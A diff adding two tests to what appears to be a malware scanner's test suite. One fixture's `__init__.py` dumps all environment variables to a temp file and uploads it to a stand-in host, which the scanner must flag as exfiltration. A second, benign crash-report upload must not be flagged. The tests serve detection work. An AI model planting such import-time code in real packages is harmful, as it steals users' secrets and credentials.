@@ -337,3 +337,33 @@ def test_a_module_path_helper_of_a_lazy_loader_stays_quiet(tmp_path):
     }
     result = scan(files, tmp_path)
     assert result.risk.level not in HIGH, [t.id for t in result.threats]
+
+
+# ---------------------------------------------------------------- staged in a file, then sent
+def test_the_environment_staged_in_a_file_then_uploaded_is_exfiltration(tmp_path):
+    files = {
+        "pkg/__init__.py": (
+            "import json\nimport os\nimport tempfile\nimport requests\n"
+            "p = os.path.join(tempfile.gettempdir(), 'e.json')\n"
+            "json.dump(dict(os.environ), open(p, 'w'))\n"
+            "requests.post('https://collect.example.invalid/e', files={'f': open(p, 'rb')})\n"
+        )
+    }
+    assert_high_with("staged env", scan(files, tmp_path), {"chain.exfiltration"})
+
+
+def test_a_crash_report_written_then_uploaded_is_no_exfiltration(tmp_path):
+    files = {
+        "pkg/__init__.py": "",
+        "pkg/report.py": (
+            "import json\nimport os\nimport tempfile\nimport requests\n\n\n"
+            "def report(exc, version):\n"
+            "    p = os.path.join(tempfile.gettempdir(), 'crash.json')\n"
+            "    with open(p, 'w') as fh:\n"
+            "        json.dump({'error': str(exc), 'version': version,"
+            " 'home': os.environ.get('HOME')}, fh)\n"
+            "    requests.post('https://reports.example.invalid/r', files={'f': open(p, 'rb')})\n"
+        ),
+    }
+    result = scan(files, tmp_path)
+    assert result.risk.level not in HIGH, [t.id for t in result.threats]
